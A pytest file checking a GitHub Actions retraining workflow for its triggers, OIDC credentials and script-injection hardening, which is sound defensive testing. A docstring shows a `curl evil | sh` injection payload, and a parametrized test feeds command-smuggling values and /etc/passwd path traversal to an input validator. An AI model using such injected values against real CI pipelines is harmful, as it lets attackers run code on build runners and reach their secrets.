"""The CI/CD workflow: tests through .ci/run, retraining submitted with trigger=ci on the right events,
credentials from the environment only."""

import os
import re
import subprocess
from pathlib import Path

import pytest
import yaml

REPO = Path(__file__).parents[2]
WORKFLOW = REPO / ".github" / "workflows" / "retrain.yaml"
CHECK_INPUTS = REPO / ".github" / "workflows" / "check-inputs.sh"


def test_retraining_is_submitted_on_dispatch_tags_and_data_changes():
    text = WORKFLOW.read_text()
    workflow = yaml.safe_load(text)
    triggers = workflow[True]  # YAML 1.1 reads the key `on` as true
    assert {"workflow_dispatch", "push", "pull_request", "repository_dispatch"} <= set(triggers)
    assert triggers["repository_dispatch"]["types"] == ["data-version-changed"]
    jobs = workflow["jobs"]
    assert "bash .ci/run" in jobs["test"]["steps"][-1]["run"]
    retrain = jobs["retrain"]
    assert retrain["needs"] == "compile" and "workflow_dispatch" in retrain["if"] and "refs/tags/v" in retrain["if"]
    submit = retrain["steps"][-1]["run"]
    assert "pipelines submit" in submit and "--trigger ci" in submit and "--idempotency-key" in submit
    assert workflow["permissions"]["id-token"] == "write"  # OIDC, not stored keys


def test_no_credentials_in_the_repository():
    text = WORKFLOW.read_text()
    assert not re.search(r"AKIA[0-9A-Z]{16}", text)
    assert "aws-secret-access-key" not in text and "aws-access-key-id" not in text


UNTRUSTED = re.compile(r"\$\{\{[^}]*\}\}")


def test_no_expression_is_pasted_into_a_script():
    """GitHub expands ${{ }} into a run: script's text before the shell sees it, so an input or a
    repository_dispatch payload such as `x"; curl evil | sh; "` becomes code (GitHub Docs, "Security hardening
    for GitHub Actions", "Understanding the risk of script injections"). Every value goes through env:."""
    workflow = yaml.safe_load(WORKFLOW.read_text())
    for name, job in workflow["jobs"].items():
        for step in job["steps"]:
            assert not UNTRUSTED.search(step.get("run", "")), f"job {name}, step {step.get('name')}: {step['run']}"


@pytest.mark.parametrize("variable, value", [
    ("CONFIG", 'pipelines/configs/x.yaml"; touch {marker}; echo "'),
    ("CONFIG", "pipelines/configs/../../etc/passwd.yaml"),
    ("CONFIG", "/etc/passwd"),
    ("CONFIG", "pipelines/configs/missing.yaml"),
    ("DATA_VERSION", "v1$(touch {marker})"),
    ("DATA_VERSION", "v1\nv2"),
])
def test_hostile_inputs_are_refused_and_never_run(tmp_path, variable, value):
    marker = tmp_path / "pwned"
    env = {"PATH": os.environ["PATH"], variable: value.format(marker=marker)}
    proc = subprocess.run(["bash", str(CHECK_INPUTS)], env=env, cwd=REPO, capture_output=True, text=True)
    assert proc.returncode == 1 and "::error::" in proc.stderr
    assert not marker.exists()


def test_good_inputs_pass():
    env = {"PATH": os.environ["PATH"], "CONFIG": "pipelines/configs/eks-example.yaml", "DATA_VERSION": "v2026.11"}
    assert subprocess.run(["bash", str(CHECK_INPUTS)], env=env, cwd=REPO).returncode == 0
